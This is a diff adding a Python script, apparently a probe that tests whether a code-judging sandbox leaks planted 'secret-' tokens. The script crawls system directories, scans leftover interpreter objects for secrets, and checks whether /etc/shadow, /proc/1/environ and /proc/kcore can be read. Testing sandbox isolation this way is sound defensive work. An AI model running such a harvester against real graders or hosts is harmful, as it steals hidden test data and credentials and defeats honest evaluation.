@@ -1,0 +1,36 @@
+# Reads whatever can be read, and tells every secret of the judge's in it.
+import gc
+import os
+import re
+
+
+def read_file(path):
+    try:
+        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+        try:
+            for secret in re.findall(rb'secret-\w+', os.read(file, 1 << 16)):
+                print(path, secret)
+        finally:
+            os.close(file)
+    except OSError:
+        pass
+
+
+def attack():
+    for top in ('/box', '/tmp', '/run', '/var/tmp', '/var/log', '/root', '/home', '/opt/cohort', '/dev', '/proc/1', '/proc/self'):
+        for folder, folders, files in os.walk(top):
+            if folder.count('/') > 5:
+                folders.clear()
+            for name in files:
+                read_file(f'{folder}/{name}')
+    # What an interpreter that was prepared for several tests would still hold.
+    for kept in gc.get_objects():
+        if isinstance(kept, dict) and any(isinstance(v, (str, bytes)) and re.match('secret-' if isinstance(v, str) else b'secret-', v) for v in list(kept.values())):
+            print(kept)
+    for file in ('/etc/shadow', '/proc/1/environ', '/proc/1/fd/0', '/proc/kcore'):
+        try:
+            os.open(file, os.O_RDONLY | os.O_NONBLOCK)
+            print(file)
+        except OSError:
+            pass
+    print('done')
